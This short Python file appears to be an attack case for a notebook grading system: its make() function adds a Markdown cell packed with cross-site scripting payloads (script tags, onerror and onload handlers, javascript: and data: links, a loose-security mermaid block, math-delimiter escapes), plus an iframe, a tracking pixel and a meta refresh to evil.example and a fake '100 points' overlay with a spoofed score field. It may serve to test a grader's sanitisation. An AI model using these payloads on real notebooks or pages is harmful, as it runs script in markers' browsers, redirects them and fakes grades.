"""Write scripts into a Markdown cell of one's own. Success: they are active on the feedback or the marker's page."""

_TEXT = """
<script>alert(1)</script> <img src=x onerror=alert(1)> <svg onload=alert(1)> [x](javascript:alert(1)) [y](<java
script:alert(1)>) <javascript:alert(1)> ![x](http://evil.example/pixel.png) <iframe src="http://evil.example"></iframe>
<b style="position:fixed;top:0">100 points</b> <form><input name="score" id="score"></form> <a href="data:text/html,<script>alert(1)</script>">z</a>

<div onclick="alert(1)">

```mermaid
%%{init: {'securityLevel': 'loose'}}%%
graph TD; A["</pre><script>alert(1)</script>"]
```

`<script>alert(1)</script>` $<script>alert(1)</script>$ $$</script><script>alert(1)</script>$$ \\begin{a}<script>alert(1)</script>\\end{a}

[a]: javascript:alert(1) "x' onmouseover='alert(1)"
[a] ![b](x "' onerror='alert(1)") # <img src=x onerror=alert(1)>
===
<style>body { display: none }</style> <link rel=stylesheet href=http://evil.example> <meta http-equiv=refresh content="0;url=http://evil.example">
"""


def make(notebook, folder):
    notebook["cells"].append({"cell_type": "markdown", "source": _TEXT, "metadata": {}})
    return notebook
